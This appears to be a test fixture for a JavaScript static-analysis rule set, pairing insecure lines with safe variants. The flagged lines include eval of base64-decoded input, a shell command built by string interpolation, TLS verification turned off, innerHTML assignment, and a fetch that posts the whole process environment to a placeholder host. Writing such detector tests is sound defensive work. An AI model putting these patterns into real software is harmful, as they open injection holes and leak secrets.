// The rules beside this file: each line after `ruleid` must be found, and nothing else in this file may be.
// ruleid: javascript.eval
eval(text);
eval("1 + 1");
// ruleid: javascript.eval
new Function("a", text);
// ruleid: javascript.decoded_code, javascript.eval
eval(atob(text));
// ruleid: javascript.shell
child.execSync(`ls ${name}`);
child.execFile("ls", [name]);
// ruleid: javascript.tls_unverified
https.request({ host: "a.example", rejectUnauthorized: false });
https.request({ host: "a.example" });
// ruleid: javascript.unescaped
element.innerHTML = text;
element.textContent = text;
// ruleid: javascript.sends_environment
fetch("https://a.example", { method: "POST", body: JSON.stringify(process.env) });
fetch("https://a.example", { method: "POST", body: process.env.USER });
